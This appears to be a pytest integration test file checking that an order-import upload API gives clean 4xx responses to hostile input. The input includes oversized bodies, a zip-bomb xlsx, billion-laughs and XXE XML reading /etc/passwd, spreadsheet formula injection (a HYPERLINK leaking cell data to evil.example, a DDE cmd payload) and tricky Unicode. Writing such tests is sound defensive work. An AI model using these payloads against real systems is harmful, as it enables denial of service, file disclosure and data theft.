"""Hostile uploads: oversized bodies, zip bombs, XML entity expansion, formula injection, awkward Unicode.
Each gets a clear 4xx or a recorded row error; nothing answers 500."""

from __future__ import annotations

import io
import time
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from services.ingest.samples import sample_rows, write_sample_xlsx
from tests.integration.hostile.conftest import MAX_UPLOAD, Api, csv_bytes, header_index, upload

pytestmark = pytest.mark.integration
TEXT_COLUMNS = ["Store Name", "Product Name", "Buyer Nickname", "Receiver Name", "Receiver Address", "Remark"]


PREAMBLE = b'--x\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\nContent-Type: text/csv\r\n\r\n'


class Body:
    """A request body streamed in chunks, counting how many the server pulled."""

    def __init__(self, total: int, chunk: int = 64 * 1024) -> None:
        self.total, self.chunk, self.pulled = total, chunk, 0

    async def __aiter__(self) -> AsyncIterator[bytes]:
        self.pulled += 1
        yield PREAMBLE
        sent = len(PREAMBLE)
        while sent < self.total:
            self.pulled += 1
            sent += self.chunk
            yield b"x" * self.chunk


@pytest.mark.parametrize("declared", [True, False], ids=["content-length", "chunked"])
async def test_an_oversized_upload_is_refused_before_it_is_read_whole(api: Api, declared: bool) -> None:
    body = Body(total=MAX_UPLOAD * 40)  # 10 MB against a 256 KB limit
    headers = api.headers() | {"Content-Type": "multipart/form-data; boundary=x"}
    if declared:
        headers["Content-Length"] = str(body.total)
    started = time.monotonic()
    response = await api.client.post("/v1/imports", content=body, headers=headers)
    assert time.monotonic() - started < 5
    assert body.pulled < body.total // body.chunk, "the whole body was read before refusing it"
    assert response.status_code == 413, response.text
    assert response.json()["code"] in {"request_too_large", "file_too_large"}


async def test_a_file_just_over_the_limit_is_413(api: Api) -> None:
    response = await upload(api, "big.csv", b"a" * (MAX_UPLOAD + 10))
    assert response.status_code == 413, response.text


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _xlsx_with(tmp_path: Path, replace: dict[str, bytes]) -> bytes:
    path = tmp_path / "base.xlsx"
    write_sample_xlsx(path, sample_rows(2, 1))
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    return _zip(members | replace)


async def test_a_zip_bomb_is_refused(api: Api, tmp_path: Path) -> None:
    bomb = _xlsx_with(tmp_path, {"xl/worksheets/sheet1.xml": b"<" + b"\0" * (150 * 1024 * 1024)})
    assert len(bomb) < MAX_UPLOAD
    started = time.monotonic()
    response = await upload(api, "bomb.xlsx", bomb)
    assert 400 <= response.status_code < 500, response.text
    assert time.monotonic() - started < 10


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&xxe;</t></si></sst>"""


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, EXTERNAL_ENTITY], ids=["billion-laughs", "external-entity"])
async def test_xml_entities_inside_an_xlsx_are_refused(api: Api, tmp_path: Path, xml: bytes) -> None:
    workbook = _xlsx_with(tmp_path, {"xl/sharedStrings.xml": xml})
    started = time.monotonic()
    response = await upload(api, "entities.xlsx", workbook)
    assert 400 <= response.status_code < 500, response.text
    assert "root:" not in response.text
    assert time.monotonic() - started < 10


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-1+2", "@SUM(A1:A9)",
            "=1+1", "\t=2+2"]  # fmt: skip


async def test_formulas_in_text_fields_never_reach_the_result_workbook_as_formulas(api: Api, tmp_path: Path) -> None:
    rows = [list(r) for r in sample_rows(len(FORMULAS), 1, seed=7)]
    for row, formula in zip(rows, FORMULAS, strict=True):
        for column in TEXT_COLUMNS:
            row[header_index(column)] = formula
    rows[0][header_index("Quantity")] = "=1/0"  # an invalid row: its cells and error text appear too
    response = await upload(api, "formulas.csv", csv_bytes([tuple(r) for r in rows], tmp_path))
    assert response.status_code == 202, response.text
    result = await api.client.get(response.json()["result_url"], headers=api.headers())
    assert result.status_code == 200
    book = load_workbook(io.BytesIO(result.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [str(c.value) for c in cells if isinstance(c.value, str)]
    assert any("HYPERLINK" in t for t in texts), "the hostile text should still be shown, as text"
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))]


UNICODE = ["emoji 🛒🎉👩‍👩‍👧", "rtl \u202egnp.exe\u202c", "mark \u200f\u200e", "nul \x00 byte", "bom \ufeff"]


async def test_unicode_edge_cases_in_every_text_field_give_row_errors_or_land(api: Api, tmp_path: Path) -> None:
    rows = [list(r) for r in sample_rows(len(UNICODE), 1, seed=11)]
    for row, text in zip(rows, UNICODE, strict=True):
        for column in TEXT_COLUMNS:
            row[header_index(column)] = text
    response = await upload(api, "unicode.csv", csv_bytes([tuple(r) for r in rows], tmp_path))
    assert response.status_code in (202, 400, 422), response.text
    if response.status_code == 202:
        body = response.json()
        assert body["valid_rows"] + body["invalid_rows"] == len(UNICODE)
        status = await api.client.get(body["status_url"], headers=api.headers())
        assert status.status_code == 200


async def test_a_lone_surrogate_in_a_csv_is_a_clear_error(api: Api) -> None:
    rows = [list(r) for r in sample_rows(1, 1, seed=3)]
    header = "Order No.*,Order Source*"
    content = ("\n".join([header, "X1,youzan"]) + "\n").encode() + b"\xed\xa0\x80 lone surrogate\n"
    del rows
    response = await upload(api, "surrogate.csv", content)
    assert response.status_code in (202, 400, 422), response.text


async def test_a_huge_api_key_header_is_a_4xx(api: Api) -> None:
    response = await api.client.get("/v1/orders", headers={"X-API-Key": "oik_" + "A" * 100_000})
    assert 400 <= response.status_code < 500, response.text


async def test_the_upload_endpoint_survives_a_non_multipart_body(api: Api) -> None:
    headers = api.headers() | {"Content-Type": "application/json"}
    response = await api.client.post("/v1/imports", content=b"{}", headers=headers)
    assert response.status_code in (400, 422), response.text
